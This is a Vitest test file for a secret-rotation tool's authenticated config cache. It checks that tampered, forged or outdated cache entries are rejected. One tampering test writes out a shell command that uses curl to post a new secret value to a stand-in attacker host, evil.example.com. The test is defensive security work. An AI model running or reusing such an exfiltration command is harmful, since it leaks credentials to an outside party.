import {mkdtemp, readFile, rm, stat, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import {join} from 'node:path'
import {afterEach, beforeEach, describe, expect, it} from 'vitest'
import {cacheFile, cacheKeyFile, readCachedConfig} from '../../../src/config/cache.js'
import {loadConfig, type RotorConfig} from '../../../src/config/index.js'

const text = `version: 1
stores:
  local:
    type: file
secrets:
  api:
    maxAge: 30d
    targets: [local:api]
`

const verified = `${text}    verify:
      http:
        url: https://api.example.com/check
        headers: {Authorization: "Bearer {{value}}"}
`

/** A cache entry's two parts: the header line and the config's JSON text. */
async function readEntry(file: string): Promise<{header: {v: number; key: string; mac: string}; config: string}> {
  const bytes = await readFile(cacheFile(file), 'utf8')
  const newline = bytes.indexOf('\n')
  return {header: JSON.parse(bytes.slice(0, newline)) as {v: number; key: string; mac: string}, config: bytes.slice(newline + 1)}
}

const writeEntry = (file: string, header: object, config: string) => writeFile(cacheFile(file), `${JSON.stringify(header)}\n${config}`)

/** Rewrites the cached config as someone who can write `.rotor/cache` (but not the user's key) would. */
async function tamper(file: string, change: (config: RotorConfig) => void): Promise<void> {
  const {header, config} = await readEntry(file)
  const parsed = JSON.parse(config) as RotorConfig
  change(parsed)
  await writeEntry(file, header, JSON.stringify(parsed))
}

describe('validated-config cache', () => {
  let dir: string
  let file: string
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'rotor-cache-'))
    file = join(dir, 'rotor.yaml')
  })
  afterEach(async () => {
    await rm(dir, {recursive: true, force: true})
  })

  it('stores a validated config and returns it for the same text', async () => {
    await writeFile(file, text)
    const loaded = await loadConfig(file, {})
    expect(await readCachedConfig(file, text)).toEqual(loaded)
    expect(await loadConfig(file, {})).toEqual(loaded)
  })

  it('ignores the entry once the file changes, so an edit is always validated', async () => {
    await writeFile(file, text)
    await loadConfig(file, {})
    const broken = text.replace('maxAge: 30d', 'maxAge: soon')
    await writeFile(file, broken)
    expect(await readCachedConfig(file, broken)).toBeUndefined()
    await expect(loadConfig(file, {})).rejects.toThrow(/maxAge/)
  })

  it('never caches a config that interpolates the environment', async () => {
    const withEnv = text.replace('type: file', 'type: file\n    path: ${STORE_PATH}')
    await writeFile(file, withEnv)
    await loadConfig(file, {STORE_PATH: 'x.enc'})
    await expect(readFile(cacheFile(file), 'utf8')).rejects.toThrow(/ENOENT/)
  })

  it('can be bypassed', async () => {
    await writeFile(file, text)
    await loadConfig(file, {}, {cache: false})
    await expect(readFile(cacheFile(file), 'utf8')).rejects.toThrow(/ENOENT/)
  })

  it('keeps its key outside the project, mode 0600', async () => {
    await writeFile(file, text)
    await loadConfig(file, {})
    expect(cacheKeyFile()).not.toContain(dir)
    expect((await stat(cacheKeyFile())).mode & 0o777).toBe(0o600)
    expect(await readCachedConfig(file, text)).toBeDefined()
  })

  it('ignores an entry whose verify check was swapped for a command', async () => {
    await writeFile(file, verified)
    const fresh = await loadConfig(file, {})
    await tamper(file, (config) => {
      config.secrets[0].verify = {command: {command: ['sh', '-c', 'curl https://evil.example.com -d "$ROTOR_NEW_VALUE"'], env: 'ROTOR_NEW_VALUE'}, timeoutMs: 1000, retries: 0}
    })
    expect(await readCachedConfig(file, verified)).toBeUndefined()
    const loaded = await loadConfig(file, {})
    expect(loaded).toEqual(fresh)
    expect(loaded.secrets[0].verify).toHaveProperty('http')
  })

  it('ignores an entry whose target was changed', async () => {
    await writeFile(file, text)
    await loadConfig(file, {})
    await tamper(file, (config) => {
      config.secrets[0].targets = [{store: 'local', path: 'attacker/api'}]
    })
    expect(await readCachedConfig(file, text)).toBeUndefined()
    expect((await loadConfig(file, {})).secrets[0].targets).toEqual([{store: 'local', path: 'api'}])
  })

  it('ignores an entry written without the key (a copied or forged cache)', async () => {
    await writeFile(file, text)
    await loadConfig(file, {})
    const {header, config} = await readEntry(file)
    await writeEntry(file, {...header, mac: '0'.repeat(64)}, config)
    expect(await readCachedConfig(file, text)).toBeUndefined()
  })

  it('keeps the config as JSON after a header line, and authenticates every byte of it', async () => {
    await writeFile(file, text)
    const loaded = await loadConfig(file, {})
    const {header, config} = await readEntry(file)
    expect(header.v).toBe(3)
    expect(JSON.parse(config)).toEqual(loaded)
    // The same config with one byte more (JSON.parse ignores trailing white space) is not the entry.
    await writeEntry(file, header, `${config} `)
    expect(await readCachedConfig(file, text)).toBeUndefined()
    // Nor is the authentic entry of another config text put in its place.
    await writeEntry(file, header, config)
    expect(await readCachedConfig(file, text)).toEqual(loaded)
    const other = text.replace('30d', '31d')
    expect(await readCachedConfig(file, other)).toBeUndefined()
  })

  it('ignores a cache entry of the previous format (the config as a string inside the JSON)', async () => {
    await writeFile(file, text)
    const loaded = await loadConfig(file, {})
    const {header, config} = await readEntry(file)
    await writeFile(cacheFile(file), JSON.stringify({v: 2, key: header.key, config, mac: header.mac}))
    expect(await readCachedConfig(file, text)).toBeUndefined()
    // The next load parses the file and writes the entry anew.
    expect(await loadConfig(file, {})).toEqual(loaded)
    expect((await readEntry(file)).header.v).toBe(3)
  })

  it('never caches a config with a verify command', async () => {
    const withCommand = `${text}    verify:\n      command:\n        command: ["./check.sh"]\n`
    await writeFile(file, withCommand)
    const loaded = await loadConfig(file, {})
    expect(loaded.secrets[0].verify).toHaveProperty('command')
    await expect(readFile(cacheFile(file), 'utf8')).rejects.toThrow(/ENOENT/)
  })
})
